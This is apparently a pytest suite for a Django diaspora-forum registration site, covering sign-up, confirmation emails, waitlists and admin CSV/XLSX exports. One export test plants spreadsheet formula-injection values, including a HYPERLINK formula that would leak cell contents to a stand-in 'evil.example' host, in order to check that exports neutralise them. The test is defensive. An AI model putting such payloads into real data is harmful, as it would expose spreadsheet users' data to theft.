import csv
import datetime
import io
import re

import pytest
from allauth.mfa.totp.internal.auth import TOTP, generate_totp_secret
from django.core import mail
from django.core.exceptions import ValidationError
from django.db import IntegrityError, transaction
from django.test import Client
from django.utils import timezone, translation
from openpyxl import load_workbook

from forum import services
from forum.models import Registration
from forum.tasks import send_registration_email
from tests.factories import OpenEditionFactory, RegistrationFactory, UserFactory
from tests.utils import count_queries

pytestmark = pytest.mark.django_db

FORM = {
    "first_name": "Айгүл",
    "last_name": "Асанова",
    "country": "DE",
    "city": "Berlin",
    "organisation": "Kyrgyz-German Society",
    "occupation": "engineer",
    "phone": "+49 (30) 123-45-67",
    "needs_transfer": "on",
    "arrival_date": "2030-06-30",
    "arrival_time": "07:40",
    "flight": "TK 346",
    "needs_accommodation": "on",
    "check_in": "2030-06-30",
    "check_out": "2030-07-03",
    "accompanying_persons": "1",
    "dietary_needs": "halal",
    "accessibility_needs": "",
    "privacy_consent": "on",
}


def details(**overrides):
    data = {
        "first_name": "Бакыт",
        "last_name": "Осмонов",
        "country": "RU",
        "city": "Москва",
        "phone": "+79161234567",
        "language": "ky",
    }
    return data | overrides


@pytest.fixture
def user(client):
    user = UserFactory()
    client.force_login(user)
    return user


def test_register_page_offers_a_new_account_beside_the_forum_form(client):
    edition = OpenEditionFactory()
    page = client.get(f"/ky/forum/{edition.year}/register/").content.decode()
    assert "<h1>Форумга катталуу</h1>" in page
    assert "<legend>Аккаунт ачуу</legend>" in page
    assert 'name="email"' in page and 'name="password1"' in page and 'name="password2"' not in page
    assert f'href="/ky/accounts/login/?next=/ky/forum/{edition.year}/register/"' in page
    page = client.get(f"/ru/forum/{edition.year}/register/").content.decode()
    assert "<h1>Регистрация на форум</h1>" in page
    assert "<legend>Создать аккаунт</legend>" in page


ACCOUNT = {"email": "aigul@example.org", "password1": "Ala-Too 2027 Osh"}


def _confirmation_path(message):
    return re.search(r"/(?:ky|ru|en)/accounts/confirm-email/[^/\s]+/", message.body).group(0)


def test_new_account_registration_takes_a_place_when_the_email_is_confirmed(client, django_capture_on_commit_callbacks):
    edition = OpenEditionFactory(capacity=10)
    with django_capture_on_commit_callbacks(execute=True):
        response = client.post(f"/ky/forum/{edition.year}/register/", FORM | ACCOUNT)
    assert response.status_code == 302
    assert response["Location"] == "/ky/accounts/confirm-email/"
    registration = Registration.objects.get()
    assert registration.status == Registration.Status.UNCONFIRMED
    assert registration.user.email == "aigul@example.org"
    assert not Registration.objects.active().exists()
    # Only the address confirmation: the registration's own letter waits for it.
    assert len(mail.outbox) == 1
    page = client.get(response["Location"]).content.decode()
    assert "Почтаңызды текшериңиз" in page
    assert not client.get("/ky/me/").wsgi_request.user.is_authenticated

    path = _confirmation_path(mail.outbox[0])
    with django_capture_on_commit_callbacks(execute=True):
        response = client.post(path)
    assert response.status_code == 302
    assert response["Location"] == f"/ky/forum/{edition.year}/register/"
    registration.refresh_from_db()
    assert registration.status == Registration.Status.CONFIRMED and registration.confirmed_at is not None
    assert len(mail.outbox) == 2 and mail.outbox[1].to == ["aigul@example.org"]
    page = client.get(response["Location"])
    assert page.wsgi_request.user == registration.user
    assert "Форумдагы ордуңуз ырасталды." in page.content.decode()


def test_email_confirmed_in_another_browser_leads_to_sign_in_then_back(client, django_capture_on_commit_callbacks):
    edition = OpenEditionFactory(capacity=10)
    with django_capture_on_commit_callbacks(execute=True):
        client.post(f"/ru/forum/{edition.year}/register/", FORM | ACCOUNT)
    other = Client()
    response = other.post(_confirmation_path(mail.outbox[0]))
    assert response["Location"] == f"/ru/accounts/login/?next=%2Fru%2Fforum%2F{edition.year}%2Fregister%2F"
    assert Registration.objects.get().status == Registration.Status.CONFIRMED


def test_bad_account_input_writes_nothing(client, django_user_model):
    edition = OpenEditionFactory()
    response = client.post(
        f"/ru/forum/{edition.year}/register/", FORM | {"email": "not-an-address", "password1": "short"}
    )
    assert response.status_code == 400
    page = response.content.decode()
    assert '<a href="#id_email">Ваша электронная почта</a>' in page
    assert not django_user_model.objects.exists() and not Registration.objects.exists()


def test_registering_with_a_known_address_does_not_reveal_it(client, django_capture_on_commit_callbacks):
    edition = OpenEditionFactory()
    UserFactory(email="aigul@example.org")
    with django_capture_on_commit_callbacks(execute=True):
        response = client.post(f"/ky/forum/{edition.year}/register/", FORM | ACCOUNT)
    assert response["Location"] == "/ky/accounts/confirm-email/"
    assert not Registration.objects.exists()
    assert mail.outbox[0].to == ["aigul@example.org"]


def test_register_creates_a_confirmed_registration_and_emails(client, user, django_capture_on_commit_callbacks):
    edition = OpenEditionFactory(capacity=10)
    with django_capture_on_commit_callbacks(execute=True):
        response = client.post(f"/ru/forum/{edition.year}/register/", FORM)
    assert response.status_code == 302
    registration = Registration.objects.get()
    assert registration.user == user
    assert registration.status == Registration.Status.CONFIRMED
    assert registration.phone == "+49301234567"
    assert registration.country.code == "DE"
    assert registration.arrival_time == datetime.time(7, 40)
    assert registration.privacy_consent_at is not None
    assert registration.directory_consent_at is None and registration.directory_consent_text == ""
    assert len(mail.outbox) == 1
    message = mail.outbox[0]
    assert message.to == [user.email]
    # Written in the language of the page the person registered on, which the registration keeps.
    assert registration.language == "ru"
    assert edition.title_ru in message.subject
    name, content, mimetype = message.attachments[0]
    assert name == f"mekendeshter-{edition.year}.ics" and mimetype == "text/calendar"
    assert "BEGIN:VEVENT" in str(content)
    page = client.get(f"/ru/forum/{edition.year}/register/").content.decode()
    assert "<p>Ваше место на форуме подтверждено.</p>" in page
    assert 'value="Berlin"' in page


def test_directory_consent_records_the_text_shown(client, user):
    edition = OpenEditionFactory()
    client.post(f"/en/forum/{edition.year}/register/", {**FORM, "directory_consent": "on"})
    registration = Registration.objects.get()
    assert registration.directory_consent_at is not None
    assert "diaspora directory" in registration.directory_consent_text


def test_registration_form_refuses_bad_input(client, user):
    edition = OpenEditionFactory()
    bad = {**FORM, "phone": "12345", "check_out": "2030-06-29", "privacy_consent": ""}
    response = client.post(f"/ky/forum/{edition.year}/register/", bad)
    assert response.status_code == 400
    errors = response.context["form"].errors
    assert {"phone", "check_out", "privacy_consent"} <= set(errors)
    assert "+996 312 66 35 38" in response.content.decode()
    assert not Registration.objects.exists()


def test_transfer_details_are_dropped_without_a_transfer(client, user):
    edition = OpenEditionFactory()
    client.post(f"/en/forum/{edition.year}/register/", {**FORM, "needs_transfer": ""})
    registration = Registration.objects.get()
    assert registration.flight == "" and registration.arrival_date is None


def test_double_submission_is_harmless(client, user):
    edition = OpenEditionFactory()
    client.post(f"/en/forum/{edition.year}/register/", FORM)
    registration = services.registration_create(user=user, edition=edition, **details())
    assert Registration.objects.count() == 1
    assert registration.first_name == "Айгүл"


def test_the_services_store_a_phone_number_in_international_form_only(user):
    edition = OpenEditionFactory()
    registration = services.registration_create(user=user, edition=edition, **details(phone="+996 (312) 66-35-38"))
    assert registration.phone == "+996312663538"
    with translation.override("ru"):
        with pytest.raises(ValidationError) as error:
            services.registration_update(registration=registration, **details(phone="0312 66 35 38", city="Бишкек"))
        assert error.value.message_dict == {
            "phone": ["Введите номер телефона в международном формате, например: +996 312 66 35 38."]
        }
    registration.refresh_from_db()
    assert (registration.phone, registration.city) == ("+996312663538", "Москва")


def test_one_registration_per_user_and_edition_in_the_database(db):
    registration = RegistrationFactory()

    with pytest.raises(IntegrityError), transaction.atomic():
        Registration.objects.create(
            user=registration.user,
            edition=registration.edition,
            first_name="A",
            last_name="B",
            country="KG",
            city="Ош",
            phone="+996555000000",
            privacy_consent_at=timezone.now(),
        )


def test_cancelled_registration_can_be_renewed(client, user):
    edition = OpenEditionFactory(capacity=1)
    registration = RegistrationFactory(user=user, edition=edition, status=Registration.Status.CANCELLED)
    client.post(f"/en/forum/{edition.year}/register/", FORM)
    registration.refresh_from_db()
    assert registration.status == Registration.Status.CONFIRMED
    assert registration.city == "Berlin"


def test_registrant_edits_and_cancels(client, user, django_capture_on_commit_callbacks):
    edition = OpenEditionFactory()
    registration = RegistrationFactory(user=user, edition=edition)
    response = client.post(f"/en/forum/{edition.year}/register/", {**FORM, "city": "Hamburg"})
    assert response.status_code == 302
    registration.refresh_from_db()
    assert registration.city == "Hamburg" and registration.status == Registration.Status.CONFIRMED
    with django_capture_on_commit_callbacks(execute=True):
        response = client.post(f"/en/forum/{edition.year}/register/cancel/")
    assert response.status_code == 302
    registration.refresh_from_db()
    assert registration.status == Registration.Status.CANCELLED
    assert len(mail.outbox) == 1


def test_no_edits_after_registration_closes(client, user):
    edition = OpenEditionFactory(registration_closes=timezone.now() + datetime.timedelta(seconds=1))
    registration = RegistrationFactory(user=user, edition=edition, city="Бишкек")
    edition.registration_closes = timezone.now() - datetime.timedelta(minutes=1)
    edition.registration_opens = timezone.now() - datetime.timedelta(days=2)
    edition.save()
    response = client.post(f"/en/forum/{edition.year}/register/", {**FORM, "city": "Hamburg"})
    assert response.status_code == 302
    registration.refresh_from_db()
    assert registration.city == "Бишкек"
    page = client.get(f"/en/forum/{edition.year}/register/").content.decode()
    assert "Hamburg" not in page and 'name="city"' not in page


def test_registration_not_open_yet(client, user):
    edition = OpenEditionFactory(registration_opens=timezone.now() + datetime.timedelta(days=1))
    response = client.get(f"/en/forum/{edition.year}/register/")
    assert 'name="city"' not in response.content.decode()
    with pytest.raises(services.RegistrationClosed):
        services.registration_create(user=user, edition=edition, **details())


@pytest.mark.parametrize(
    ("language", "expected"),
    [("ky", "2030-жылдын 1–2-июлу"), ("ru", "1–2 июля 2030"), ("en", "1–2 July 2030")],
)
@pytest.mark.parametrize("kind", ["pending", "confirmed", "waitlisted", "promoted", "cancelled"])
def test_every_registration_email_in_each_language(kind, language, expected):
    edition = OpenEditionFactory(year=2030)
    registration = RegistrationFactory(edition=edition, language=language)
    send_registration_email(registration.pk, kind)
    message = mail.outbox[0]
    title = getattr(edition, f"title_{language}")
    assert title in message.subject
    assert title in message.body
    assert expected in message.body
    assert f"/{language}/forum/2030/register/" in message.body
    assert bool(message.attachments) == (kind != "cancelled")


def test_register_page_query_count_does_not_grow(client, user):
    edition = OpenEditionFactory()
    RegistrationFactory(user=user, edition=edition)
    url = f"/ky/forum/{edition.year}/register/"
    few = count_queries(client, url)
    RegistrationFactory.create_batch(5, edition=edition)
    assert count_queries(client, url) == few


def test_public_statistics_group_small_countries(client):
    edition = OpenEditionFactory()
    RegistrationFactory.create_batch(6, edition=edition, country="RU")
    RegistrationFactory.create_batch(2, edition=edition, country="TR")
    RegistrationFactory(edition=edition, country="US")
    RegistrationFactory(edition=edition, country="KZ", status=Registration.Status.CANCELLED)
    url = f"/ky/forum/{edition.year}/registrations/"
    few = count_queries(client, url)
    html = client.get(url).content.decode()
    assert "Россия" in html and "<td>6</td>" in html
    assert "Түркия" not in html and "Америка" not in html and "Казакстан" not in html
    assert "<td>2</td>" not in html and "<td>3</td>" not in html
    RegistrationFactory.create_batch(5, edition=edition, country="DE")
    assert count_queries(client, url) == few
    assert "Германия" in client.get(url).content.decode()


# --- Staff ----------------------------------------------------------------------------------


def test_admin_lists_and_filters_registrations(admin_client):
    edition = OpenEditionFactory()
    RegistrationFactory(edition=edition, last_name="Трансферов", needs_transfer=True)
    RegistrationFactory(edition=edition, last_name="Пешеходов", needs_transfer=False)
    html = admin_client.get("/admin/forum/registration/?needs_transfer__exact=1").content.decode()
    assert "Трансферов" in html and "Пешеходов" not in html


def test_admin_bulk_action_sends_the_right_email(admin_client, django_capture_on_commit_callbacks):
    edition = OpenEditionFactory(capacity=None)
    registration = RegistrationFactory(edition=edition, status=Registration.Status.PENDING)
    with django_capture_on_commit_callbacks(execute=True):
        response = admin_client.post(
            "/admin/forum/registration/", {"action": "confirm", "_selected_action": [registration.pk]}
        )
    assert response.status_code == 302
    registration.refresh_from_db()
    assert registration.status == Registration.Status.CONFIRMED
    assert len(mail.outbox) == 1 and mail.outbox[0].to == [registration.user.email]


def test_moving_the_first_in_the_queue_to_the_waiting_list_sticks(admin_client, django_capture_on_commit_callbacks):
    edition = OpenEditionFactory(capacity=2)
    moved = RegistrationFactory(edition=edition)  # registered first: first in the queue once waitlisted
    RegistrationFactory(edition=edition)
    waiting = RegistrationFactory(edition=edition, status=Registration.Status.WAITLISTED)
    with django_capture_on_commit_callbacks(execute=True):
        admin_client.post("/admin/forum/registration/", {"action": "waitlist", "_selected_action": [moved.pk]})
    moved.refresh_from_db()
    waiting.refresh_from_db()
    assert moved.status == Registration.Status.WAITLISTED
    assert waiting.status == Registration.Status.CONFIRMED  # the freed place goes to the next in line
    assert sorted(m.to[0] for m in mail.outbox) == sorted([moved.user.email, waiting.user.email])
    assert [m.to for m in mail.outbox].count([moved.user.email]) == 1


def export(admin_client, registrations, **data):
    return admin_client.post(
        "/admin/forum/registration/",
        {"action": "export", "apply": "1", "_selected_action": [r.pk for r in registrations], **data},
    )


def test_transfer_list_carries_only_what_the_driver_needs(admin_client):
    edition = OpenEditionFactory()
    flying = RegistrationFactory(
        edition=edition,
        last_name="Летов",
        needs_transfer=True,
        arrival_date=datetime.date(2030, 6, 30),
        flight="TK 346",
        dietary_needs="halal",
    )
    walking = RegistrationFactory(edition=edition, last_name="Пешков")
    response = export(admin_client, [flying, walking], preset="transfer", file_format="csv")
    body = response.content.decode("utf-8-sig")
    assert response["Content-Type"].startswith("text/csv")
    assert "Летов" in body and "TK 346" in body and "2030-06-30" in body
    assert "Пешков" not in body and "halal" not in body and flying.user.email not in body


@pytest.mark.parametrize("preset", ["transfer", "hotel"])
def test_transfer_and_hotel_lists_hold_only_people_who_are_coming(admin_client, preset):
    edition = OpenEditionFactory(year=2031)
    needs = {
        "needs_transfer": True,
        "flight": "TK 346",
        "needs_accommodation": True,
        "check_in": datetime.date(2031, 6, 30),
        "check_out": datetime.date(2031, 7, 3),
    }
    coming = RegistrationFactory(edition=edition, last_name="Келет", **needs)
    others = [
        RegistrationFactory(edition=edition, last_name=name, status=status, **needs)
        for name, status in (("Күтөт", Registration.Status.WAITLISTED), ("Келбейт", Registration.Status.CANCELLED))
    ]
    response = export(admin_client, [coming, *others], preset=preset, file_format="csv")
    rows = list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"))))
    assert rows[0][:2] == ["форум", "статусу"]
    assert [row[2:4] for row in rows[1:]] == [["Айгүл", "Келет"]]
    assert rows[1][:2] == ["2031", "ырасталды"]


def test_hotel_list_as_xlsx(admin_client):
    edition = OpenEditionFactory()
    guest = RegistrationFactory(
        edition=edition,
        last_name="Гостев",
        needs_accommodation=True,
        check_in=datetime.date(2030, 6, 30),
        check_out=datetime.date(2030, 7, 3),
    )
    response = export(admin_client, [guest, RegistrationFactory(edition=edition)], preset="hotel", file_format="xlsx")
    rows = list(load_workbook(io.BytesIO(response.content)).active.iter_rows(values_only=True))
    assert len(rows) == 2
    assert "Гостев" in rows[1]
    assert guest.phone not in rows[1] and guest.user.email not in rows[1]


def test_export_with_chosen_columns(admin_client):
    registration = RegistrationFactory(city="Стамбул")
    response = export(admin_client, [registration], preset="all", columns=["last_name", "city"], file_format="csv")
    lines = response.content.decode("utf-8-sig").splitlines()
    assert len(lines) == 2 and lines[1] == f"{registration.last_name},Стамбул"
    page = admin_client.post(
        "/admin/forum/registration/", {"action": "export", "_selected_action": [registration.pk]}
    ).content.decode()
    assert 'name="columns"' in page and 'name="preset"' in page


@pytest.mark.parametrize("file_format", ["csv", "xlsx"])
def test_exports_neutralise_formulas_typed_into_the_form(admin_client, file_format):
    """Staff open these lists in a spreadsheet: a registrant's text must not run as a formula there."""
    hostile = RegistrationFactory(
        first_name='=HYPERLINK("http://evil.example/?x="&A1,"Click")',
        dietary_needs="=1+1",
        needs_transfer=True,
        flight="@SUM(A1)",
        phone="+996312663538",
    )
    for preset in ("all", "transfer"):
        response = export(admin_client, [hostile], preset=preset, file_format=file_format)
        if file_format == "csv":
            cells = list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"))))[1]
        else:
            sheet = load_workbook(io.BytesIO(response.content)).active
            row = next(sheet.iter_rows(min_row=2))
            assert "f" not in {cell.data_type for cell in row}
            cells = [str(cell.value) for cell in row if cell.value is not None]
        assert not [cell for cell in cells if cell.startswith(("=", "@"))]
        assert "+996312663538" in cells


@pytest.mark.parametrize(
    "lang, shown, not_shown",
    [
        ("ky", ["Каттоонун акыркы күнү — {2031-жылдын 30-июну}, Бишкек убактысы менен саат 23:59."], ["1-июлу"]),
        ("ru", ["Последний день регистрации — {30 июня 2031 г.}, до 23:59 по бишкекскому времени."], ["1 июля"]),
        ("en", ["The last day to register is {30 June 2031}, until 23:59 Bishkek time."], ["1 July"]),
    ],
)
def test_the_shown_deadline_is_the_real_one(client, user, lang, shown, not_shown):
    # Registration closes at 00:00 on 1 July in Bishkek: the last day it is open is 30 June.
    closes = timezone.make_aware(datetime.datetime(2031, 7, 1))
    edition = OpenEditionFactory(year=2031, registration_closes=closes)
    assert edition.registration_is_open(now=closes - datetime.timedelta(seconds=1))
    assert not edition.registration_is_open(now=closes)
    html = client.get(f"/{lang}/forum/2031/register/").content.decode()
    for text in shown:
        # The date is a <time>, which keeps it on one line ("2031-" / "жылдын" was a break).
        assert text.replace("{", '<time datetime="2031-06-30">').replace("}", "</time>") in html
    for text in not_shown:
        assert text not in html


# --- The whole list, as filtered on the changelist, with no rows ticked (issue 11) -----------


def test_changelist_offers_the_filtered_list_for_export(admin_client):
    RegistrationFactory()
    html = admin_client.get("/admin/forum/registration/?status__exact=confirmed&q=Asanova").content.decode()
    assert 'href="/admin/forum/registration/export-list/?q=Asanova&amp;status__exact=confirmed"' in html


@pytest.mark.parametrize("file_format", ["csv", "xlsx"])
def test_export_the_whole_filtered_list_without_selecting_rows(admin_client, file_format):
    edition = OpenEditionFactory(year=2032)
    confirmed = [RegistrationFactory(edition=edition, last_name=f"Келет{n}") for n in range(3)]
    RegistrationFactory(edition=edition, last_name="Келбейт", status=Registration.Status.CANCELLED)
    RegistrationFactory(last_name="Башкасы")  # another edition
    url = f"/admin/forum/registration/export-list/?edition__id__exact={edition.pk}&status__exact=confirmed"
    page = admin_client.get(url, HTTP_ACCEPT_LANGUAGE="en").content.decode()
    assert "The list as filtered holds 3 registrations." in page
    assert 'name="_selected_action"' not in page
    response = admin_client.post(url, {"apply": "1", "preset": "all", "file_format": file_format})
    if file_format == "csv":
        rows = list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"))))
    else:
        rows = [list(row) for row in load_workbook(io.BytesIO(response.content)).active.iter_rows(values_only=True)]
    names = sorted(cell for row in rows[1:] for cell in row if isinstance(cell, str) and cell.startswith("Кел"))
    assert names == sorted(registration.last_name for registration in confirmed)
    assert "Башкасы" not in str(rows)


def test_export_of_the_whole_list_follows_the_search(admin_client):
    RegistrationFactory(last_name="Табылды")
    RegistrationFactory(last_name="Башка")
    response = admin_client.post(
        "/admin/forum/registration/export-list/?q=Табылды", {"apply": "1", "preset": "all", "file_format": "csv"}
    )
    body = response.content.decode("utf-8-sig")
    assert "Табылды" in body and "Башка" not in body


def test_export_of_the_whole_list_is_for_staff_who_may_view_registrations(client, admin_client, django_user_model):
    RegistrationFactory(last_name="Купуя")
    url = "/admin/forum/registration/export-list/"
    response = client.get(url)
    assert response.status_code == 302 and "/login/" in response["Location"]
    clerk = django_user_model.objects.create_user(username="clerk", email="clerk@example.org", is_staff=True)
    TOTP.activate(clerk, generate_totp_secret())
    client.force_login(clerk)
    assert client.post(url, {"apply": "1", "preset": "all", "file_format": "csv"}).status_code == 403
    # A broken filter in the query string sends staff back to the list rather than failing.
    response = admin_client.get(url + "?created_at__gte=not-a-date")
    assert response.status_code == 302 and response["Location"] == "/admin/forum/registration/"


@pytest.mark.django_db
@pytest.mark.parametrize(("language", "russia"), [("ky", "Россия"), ("ru", "Россия"), ("en", "Russia")])
def test_country_list_starts_with_a_prompt_then_the_countries_most_compatriots_live_in(client, language, russia):
    """Russia first: it had been dropped from the pinned countries, taken for the field's blank choice."""
    edition = OpenEditionFactory()
    client.force_login(UserFactory())
    page = client.get(f"/{language}/forum/{edition.year}/register/").content.decode()
    select = page[page.index('name="country"') :].split("</select>", 1)[0]
    values = re.findall(r'<option value="([^"]*)"', select)
    assert values[:4] == ["", "RU", "KZ", "TR"]
    assert values.count("") == 1
    assert f'<option value="RU">{russia}</option>' in select
